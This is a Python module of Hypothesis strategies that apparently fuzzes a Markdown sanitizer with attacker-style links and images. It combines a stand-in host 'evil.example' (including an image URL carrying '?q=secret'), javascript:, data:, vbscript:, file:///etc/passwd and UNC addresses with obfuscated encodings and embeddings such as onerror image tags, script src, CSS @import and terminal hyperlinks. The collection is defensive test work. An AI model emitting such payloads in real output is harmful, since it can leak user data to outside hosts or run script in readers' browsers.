"""Markdown as an attacker writes it: an address, in some writing, made active in some way, inside something else."""

from __future__ import annotations

from collections.abc import Callable
from urllib.parse import quote

from hypothesis import strategies as st

HOST = "evil.example"
ADDRESSES = (
    f"https://{HOST}/a.png?q=secret",
    f"HTTP://{HOST}",
    f"//{HOST}/a.png",
    f"www.{HOST}/a",
    f"mailto:someone@{HOST}",
    f"someone@{HOST}",
    f"{HOST}/a.png",
    "evil.com",
    "xn--80ak6aa92e.com",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "slack://open?team=1",
    f"\\\\{HOST}\\share",
    f"ftp://{HOST}/x",
    "/media/x.png",
    "#top",
    "?lang=en",
)
WRITINGS: tuple[Callable[[str], str], ...] = (
    lambda address: address,
    lambda address: f"<{address}>",
    lambda address: address.replace(":", "&#58;").replace("/", "&#x2f;"),
    lambda address: address.replace(":", "&colon;").replace(".", "&period;"),
    lambda address: address.replace("&", "&amp;").replace(":", "&amp;#58;"),
    lambda address: address.replace(":", "\\:").replace(".", "\\."),
    lambda address: address.replace("//", "/\u200b/").replace(".", "\u2060."),
    lambda address: address[:2] + "\u00ad" + address[2:],
    lambda address: quote(address),
    lambda address: address.replace("/", "%2F"),
    lambda address: "\u202e" + address[::-1],
    lambda address: address.replace(":", "：").replace("/", "／"),
    lambda address: f"{address[:5]}**{address[5:]}**",
    lambda address: f"{address[:4]}[x](y){address[4:]}",
    lambda address: f"{address[:4]}[99]{address[4:]}",
    lambda address: f"{address[:6]}\n{address[6:]}",
)
WAYS = (
    "{0}",
    "詳細は{0}を参照",
    "![図]({0})",
    "![図]( {0} 'title')",
    '![図](<{0}> "a\nb")',
    "[ここ]({0})",
    "[![図]({0})]({0})",
    "[ここ][x]\n\n[x]: {0}",
    "[x]\n\n[x]:\n{0}",
    "[x]\n\n[x]:\n   <{0}>\n   'title\n over lines'",
    "![x][]\n\n- [x]: {0}",
    "![x]\n\n> [x]:\n> {0}",
    "![x]\n\n> - 1. [x]:\n>        {0}",
    "![x]\n\n* a\n\n  [x]: {0} (title)",
    "[ẞ]\n\n[SS]: {0}",
    "[1]\n\n[1]: {0}",
    "[^1]\n\n[^1]: {0}",
    "<img src='{0}' onerror='window.__pwned=1'>",
    "<a href={0}>x</a>",
    "<div>\n\n[x]({0})\n\n</div>",
    "<style>@import url({0})</style>",
    "<svg><image href='{0}'/></svg>",
    "<!-- --><script src={0}></script>",
    "`code` {0} `",
    "```{0}\n{0}\n```",
    "    {0}",
    "$\\href{{{0}}}{{x}}$",
    "$$\\includegraphics{{{0}}}$$",
    ":red[[x]({0})]",
    ":material/{0}: :smile: :image[{0}]",
    ":small[:blue-background[{0}]]",
    "| a | b |\n|---|---|\n| ![x]({0}) | {0} |",
    "# [x]({0})\n\n[x]({0})\n===",
    "term\n: [x]({0})",
    "- [ ] [x]({0})",
    "[[{0}]]",
    '[ここ]({0} "t")[1]',
    "[1]({0})",
    "[a\\]]({0})",
    "[a](<{0}\\>>)",
    "*[x]({0})*~~![x]({0})~~",
    "@[x]({0}) ![[{0}]] {{{{ {0} }}}}",
    "\\[x\\]({0}) \\![x]({0})",
    "\x1b]8;;{0}\x1b\\x\x1b]8;;\x1b\\",
)
AROUND = (
    "{0}",
    "> {0}",
    "- {0}",
    "1. a\n   {0}",
    "**{0}**",
    "a\n\n{0}\n\nb",
    "> - {0}",
    "| {0} | b |\n|---|---|\n| {0} | c |",
)


def _inside(around: str, text: str) -> str:
    """Continued lines keep what the container begins its lines with."""
    lead = {"> {0}": "> ", "- {0}": "  ", "1. a\n   {0}": "   ", "> - {0}": ">   "}.get(around, "")
    return around.replace("{0}", text.replace("\n", "\n" + lead))


_attack = st.builds(
    lambda address, writing, way, around: _inside(around, way.format(writing(address))),
    st.sampled_from(ADDRESSES),
    st.sampled_from(WRITINGS),
    st.sampled_from(WAYS),
    st.sampled_from(AROUND),
)
_noise = st.text(alphabet="[]()<>!\\:/.@*_`~#>|&;$^-+=1 ahtpsw議\n\t\u200b", max_size=30)
attacks = st.lists(st.one_of(_attack, _noise), min_size=1, max_size=4).flatmap(
    lambda pieces: st.sampled_from(("", " ", "\n", "\n\n")).map(lambda between: between.join(pieces))
)
"""Texts of one to four attacks, or of noise, side by side."""
EVERY_WAY = [
    _inside(around, way.format(writing(address)))
    for address in ADDRESSES[:6]
    for way in WAYS
    for writing in WRITINGS[:1]
    for around in AROUND[:4]
]
